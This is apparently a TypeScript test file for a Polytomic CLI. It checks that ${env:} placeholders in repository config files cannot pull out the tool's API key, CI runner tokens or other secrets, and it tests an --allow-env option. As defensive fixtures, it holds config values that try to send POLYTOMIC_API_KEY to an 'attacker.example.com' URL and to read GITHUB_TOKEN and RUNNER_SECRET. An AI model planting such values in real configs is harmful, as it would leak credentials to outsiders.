// ${env:NAME} reads the environment of whoever runs the tool, and the file is the repository's: the review applied a
// file with "https://attacker.example.com/?k=${env:POLYTOMIC_API_KEY}" and the emulator stored the key. Performed
// here: the tool's and the runner's variables are never read into a file, each refusal says why, and --allow-env
// narrows ${env:} to the names given.
import { after, afterEach, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { startEmulator, type RunningEmulator } from '../../emulator/src/index';
import { cleanEnv, runCli, SHARED_CATALOG, tempFolder } from './support';

const KEY = 'cli-env-key-9d3b7e21';
const GITHUB_TOKEN = 'ghs_runner-token-value-0a1b';
const RUNNER_SECRET = 'runner-secret-value-7f7f';
const MAPPED = 'mapped-secret-value-3c3c';
const WAREHOUSE = 'warehouse-secret-value-6e6e';
const PG_PASSWORD = 'env-pg-password-4242';
const OTHER = 'other-variable-value-5151';
const SECRETS = [KEY, GITHUB_TOKEN, RUNNER_SECRET, MAPPED, WAREHOUSE, PG_PASSWORD, OTHER];

function pg(name: string, database: string, password = '${env:PG_PASSWORD}'): string {
  return JSON.stringify({ name, type: 'postgresql', configuration: { hostname: 'attacker.example.com', port: 5432, database, username: 'u', password } }, null, 2) + '\n';
}

describe('${env:} never reads the tool\'s or the runner\'s variables; --allow-env', () => {
  let emulator: RunningEmulator;
  let env: Record<string, string>;
  before(async () => {
    emulator = await startEmulator({ apiKeys: [KEY], catalogDir: SHARED_CATALOG });
    env = cleanEnv({
      POLYTOMIC_API_KEY: KEY,
      POLYTOMIC_BASE_URL: emulator.url,
      POLYTOMIC_SECRET_WAREHOUSE: WAREHOUSE,
      GITHUB_TOKEN,
      RUNNER_SECRET,
      MY_MAPPED: MAPPED,
      PG_PASSWORD,
      OTHER_VARIABLE: OTHER,
    });
  });
  afterEach(() => emulator.reset());
  after(() => emulator.close());
  const cli = (args: string[], cwd: string) => runCli(args, { cwd, env });
  const stored = () => JSON.stringify([...emulator.state.connections.values()].map((c) => c.configuration));

  test('the attack: a file that sends the API key, the runner\'s token, a secret through ${env:}; each fails saying why', async () => {
    const dir = tempFolder({
      'key.polytomic.json': pg('Key', 'https://attacker.example.com/?k=${env:POLYTOMIC_API_KEY}'),
      'lower.polytomic.json': pg('Lower', '${env:polytomic_api_key}'),
      'token.polytomic.json': pg('Token', '${env:GITHUB_TOKEN}'),
      'runner.polytomic.json': pg('Runner', '${env:RUNNER_SECRET}'),
      'secret.polytomic.json': pg('Secret', '${env:POLYTOMIC_SECRET_WAREHOUSE}'),
      'mapped.polytomic.json': pg('Mapped', '${env:MY_MAPPED}'),
      'fine.polytomic.json': pg('Fine', 'app'),
    });
    const planned = await cli(['plan', '--secret-env', 'DB=MY_MAPPED'], dir);
    assert.match(planned.stdout, /needs environment variable POLYTOMIC_API_KEY \(for configuration\.database; POLYTOMIC_API_KEY is the tool's own and never read into a file\)/);
    assert.match(planned.stdout, /needs environment variable GITHUB_TOKEN \(for configuration\.database; GITHUB_TOKEN is the CI runner's and never read into a file\)/);

    const applied = await cli(['apply', '--yes', '--secret-env', 'DB=MY_MAPPED'], dir);
    assert.equal(applied.status, 1, applied.stdout + applied.stderr);
    const failed = (name: string, why: string) =>
      assert.match(applied.stdout, new RegExp(`^failed {3}${name} \\(\\w+\\.polytomic\\.json\\): nothing was sent: Missing environment variable .+; ${why}\\)\\.$`, 'm'), name);
    failed('Key', "POLYTOMIC_API_KEY is the tool's own and never read into a file");
    failed('Lower', "polytomic_api_key is the tool's own and never read into a file");
    failed('Token', "GITHUB_TOKEN is the CI runner's and never read into a file");
    failed('Runner', "RUNNER_SECRET is the CI runner's and never read into a file");
    failed('Secret', 'POLYTOMIC_SECRET_WAREHOUSE holds \\$\\{secret:WAREHOUSE\\} and is read only as that');
    failed('Mapped', 'MY_MAPPED holds \\$\\{secret:DB\\} \\(--secret-env\\) and is read only as that');
    assert.match(applied.stdout, /^created {2}Fine /m, 'a variable of the files\' own is read');
    assert.equal(emulator.state.connections.size, 1);
    for (const secret of [KEY, GITHUB_TOKEN, RUNNER_SECRET, WAREHOUSE, MAPPED]) assert.ok(!stored().includes(secret), 'nothing of the runner\'s reached Polytomic');
    for (const secret of SECRETS) assert.ok(!applied.stdout.includes(secret) && !applied.stderr.includes(secret) && !planned.stdout.includes(secret));
  });

  test('--allow-env: only the names given are read; a reserved name is refused as a usage error', async () => {
    const dir = tempFolder({
      'allowed.polytomic.json': pg('Allowed', 'app'),
      'other.polytomic.json': pg('Other', '${env:OTHER_VARIABLE}'),
    });
    const applied = await cli(['apply', '--yes', '--allow-env', 'PG_PASSWORD'], dir);
    assert.equal(applied.status, 1);
    assert.match(applied.stdout, /^failed {3}Other \(other\.polytomic\.json\): nothing was sent: Missing environment variable OTHER_VARIABLE \(for configuration\.database; OTHER_VARIABLE is not among the --allow-env names \(PG_PASSWORD\)\)\.$/m);
    assert.match(applied.stdout, /^created {2}Allowed /m);
    assert.ok(!stored().includes(OTHER));

    const again = tempFolder({ 'other.polytomic.json': pg('Other', '${env:OTHER_VARIABLE}') });
    const both = await cli(['apply', '--yes', '--allow-env', 'PG_PASSWORD', '--allow-env', 'OTHER_VARIABLE'], again);
    assert.equal(both.status, 0, both.stdout);
    assert.ok(stored().includes(OTHER));

    for (const name of ['POLYTOMIC_API_KEY', 'GITHUB_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'not a name']) {
      const refused = await cli(['plan', '--allow-env', name], dir);
      assert.equal(refused.status, 2, name);
      assert.match(refused.stderr, name === 'not a name' ? /--allow-env takes the name of an environment variable/ : new RegExp(`--allow-env ${name}: ${name} is the (tool's own|CI runner's) and never read into a file\\.`));
    }
  });
});
